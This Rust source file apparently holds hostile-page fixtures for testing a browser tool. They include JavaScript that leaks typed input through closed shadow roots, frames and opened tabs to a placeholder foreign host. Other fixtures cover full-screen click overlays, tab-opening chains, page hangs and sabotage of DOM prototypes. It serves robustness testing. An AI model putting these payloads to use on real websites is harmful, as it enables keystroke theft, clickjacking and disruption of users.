//! Pages that hide, copy or leak in shadow trees, in frames that come and go, and in tabs that they keep.

use super::hostility::Hostility;

pub(super) const NESTED: [Hostility; 15] = [
    Hostility::script(
        "closed-root-over-everything",
        "const host = document.createElement('div');
host.attachShadow({ mode: 'closed' }).innerHTML = '<div style=\"position:fixed;inset:0;z-index:99\" onclick=\"location.href=\\'@FOREIGN@/root\\'\"></div>';
document.body.append(host);",
    ),
    Hostility::script(
        "field-in-a-closed-root-sends",
        "const host = document.createElement('div');
const root = host.attachShadow({ mode: 'closed' });
root.innerHTML = '<form action=\"@FOREIGN@/closed\"><input name=\"word\"><button>Continue</button></form>';
root.querySelector('input').oninput = (event) => fetch('@FOREIGN@/closed?' + event.target.value, { mode: 'no-cors' });
document.body.prepend(host);",
    ),
    Hostility::script(
        "roots-in-roots",
        "let host = document.body.appendChild(document.createElement('div'));
for (let depth = 0; depth < 800; depth += 1) {
  const root = host.attachShadow({ mode: depth % 2 ? 'closed' : 'open' });
  root.innerHTML = '<b>deep</b><div></div>';
  host = root.querySelector('div');
}",
    ),
    Hostility::script(
        "closed-roots-all-the-time",
        "setInterval(() => {
  const host = document.body.appendChild(document.createElement('p'));
  host.attachShadow({ mode: 'closed' }).innerHTML = '<i>x</i>';
  if (document.querySelectorAll('p').length > 3000) document.querySelectorAll('p').forEach((one) => one.remove());
}, 1);",
    ),
    Hostility::html(
        "declared-roots",
        "<div><template shadowrootmode=\"closed\"><input name=\"word\"><img src=\"@FOREIGN@/declared\"></template></div>",
    ),
    Hostility::script(
        "root-without-a-prototype",
        "Element.prototype.attachShadow = () => { throw new Error('no'); };
ShadowRoot.prototype.querySelectorAll = () => [];
Object.defineProperty(Element.prototype, 'shadowRoot', { get() { throw new Error('no'); } });",
    ),
    Hostility::script(
        "slots-that-move",
        "const host = document.createElement('div');
const target = document.getElementById('target');
target.replaceWith(host);
host.append(target);
const root = host.attachShadow({ mode: 'open' });
setInterval(() => { root.innerHTML = Math.random() < 0.5 ? '<slot></slot>' : '<div><slot></slot></div>'; }, 5);",
    ),
    Hostility::script(
        "frames-that-come-and-go",
        "setInterval(() => {
  const frame = document.createElement('iframe');
  frame.srcdoc = '<input name=\"word\"><button>Continue</button>';
  document.body.prepend(frame);
  setTimeout(() => frame.remove(), 8);
}, 4);",
    ),
    Hostility::script(
        "frame-that-loads-anew",
        "const frame = document.body.appendChild(document.createElement('iframe'));
setInterval(() => { frame.src = '@HERE@/frame?depth=1&at=' + Math.random(); }, 10);",
    ),
    Hostility::script(
        "frame-takes-the-focus",
        "const frame = document.body.appendChild(document.createElement('iframe'));
frame.srcdoc = '<input id=\"in\"><scr' + 'ipt>document.getElementById(\"in\").oninput = (event) => { new Image().src = \"@FOREIGN@/focus?\" + event.target.value; }<\\/script>';
setInterval(() => frame.contentDocument?.getElementById('in')?.focus(), 1);",
    ),
    Hostility::script(
        "frame-reads-its-parent",
        "const frame = document.body.appendChild(document.createElement('iframe'));
frame.srcdoc = '<scr' + 'ipt>setInterval(() => { new Image().src = \"@FOREIGN@/parent?\" + encodeURIComponent(parent.document.getElementById(\"word\").value); }, 50)<\\/script>';",
    ),
    Hostility::script(
        "frame-hangs",
        "const frame = document.body.appendChild(document.createElement('iframe'));
frame.sandbox = 'allow-scripts';
frame.srcdoc = '<p>hangs</p><scr' + 'ipt>setTimeout(() => { for (const end = Date.now() + 8000; Date.now() < end;); }, 50)<\\/script>';",
    ),
    Hostility::script(
        "tab-takes-the-opener-away",
        "addEventListener('mousedown', () => {
  const tab = window.open('about:blank', 'kept');
  tab?.document.write('<scr' + 'ipt>setInterval(() => { new Image().src = \"@FOREIGN@/opener?\" + encodeURIComponent(opener.document.getElementById(\"word\").value); }, 20)</scr' + 'ipt>');
}, true);",
    ),
    Hostility::script(
        "tabs-that-open-tabs",
        "addEventListener('keydown', () => {
  const tab = window.open('about:blank');
  tab?.document.write('<scr' + 'ipt>setInterval(() => window.open(\"@FOREIGN@/chain\"), 20)</scr' + 'ipt>');
}, true);",
    ),
    Hostility::script(
        "closes-itself-in-a-row",
        "addEventListener('input', () => { window.open('@HERE@/frame?depth=0'); window.close(); }, true);",
    ),
];
